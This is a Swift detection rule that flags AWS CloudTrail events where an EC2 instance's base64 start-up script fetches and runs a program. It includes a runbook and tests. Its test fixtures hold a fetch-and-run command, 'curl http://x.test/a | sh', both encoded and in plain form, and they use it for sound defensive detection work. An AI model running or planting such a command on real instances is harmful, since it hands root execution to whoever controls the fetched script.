import MargayKit

/// Finds instances whose start-up script, which is base64 in the request, fetches a program and runs it.
struct UserDataFetchesScript: Rule, Equatable {
  let id = "AWS.CloudTrail.UserDataFetchesScript"
  let place: CodePlace? = .here()
  let logTypes = [CloudTrail.logType]
  let displayName: String? = "Start-up script of an instance fetches and runs a program"
  let severity = Severity.medium
  let description =
    "The user data of an instance was set to a script that fetches something from the network and runs it. It runs as root at the next start."
  let reference = "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html"
  let runbook =
    "1. Decode the user data and read what it fetches.\n2. Ask the caller. Images should carry what instances need.\n3. Stop the instance before its next start if nobody can explain it."
  let tags = ["AWS", "EC2", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1059.004"])]
  let summaryAttributes = ["userIdentity.arn", "requestParameters.instanceId"]

  private static let calls: Set<Text> = [
    "RunInstances", "ModifyInstanceAttribute", "CreateLaunchTemplate",
  ]

  func matches(_ event: Event) -> Bool {
    guard CloudTrail.isCall(event, "ec2.amazonaws.com", Self.calls), CloudTrail.isSuccess(event),
      let script = script(of: event)
    else { return false }
    return ShellCommand.fetchesAndRuns(Text(script))
  }

  private func script(of event: Event) -> String? {
    for path: EventPath in [
      "requestParameters.userData", "requestParameters.userData.value",
      "requestParameters.LaunchTemplateData.UserData",
    ] {
      if let text = event.string(path) { return Base64.decodeText(text) }
    }
    return nil
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("eventName")) by \(CloudTrail.actor(event)): the start-up script fetches and runs a program"
  }

  func dedup(_ event: Event) -> String? { CloudTrail.actor(event) }

  func alertContext(_ event: Event) -> AlertContext {
    ["script": script(of: event), "instance": event["requestParameters", "instanceId"]]
  }

  private static let log = TestLog(
    """
    {"eventSource": "ec2.amazonaws.com", "eventName": "ModifyInstanceAttribute", "eventTime": "2026-03-02T09:00:00Z",
     "userIdentity": {"arn": "arn:aws:iam::123456789012:user/alice"},
     "requestParameters": {"instanceId": "i-0123456789abcdef0",
       "userData": {"value": "IyEvYmluL3NoCmN1cmwgaHR0cDovL3gudGVzdC9hIHwgc2gK"}}}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "script fetched and run", matches: true, Self.log,
        title:
          "ModifyInstanceAttribute by arn:aws:iam::123456789012:user/alice: the start-up script fetches and runs a program",
        dedup: "arn:aws:iam::123456789012:user/alice",
        context: [
          "script": "#!/bin/sh\ncurl http://x.test/a | sh\n", "instance": "i-0123456789abcdef0",
        ]),
      RuleTest(
        "script of packages", matches: false,
        Self.log.with(
          "requestParameters.userData.value", "IyEvYmluL3NoCmFwdC1nZXQgaW5zdGFsbCBuZ2lueAo=")),
      RuleTest(
        "no base64", matches: false,
        Self.log.with("requestParameters.userData.value", "curl http://x.test/a | sh")),
      RuleTest(
        "refused", matches: false, Self.log.with("errorCode", "Client.UnauthorizedOperation")),
    ]
  }
}
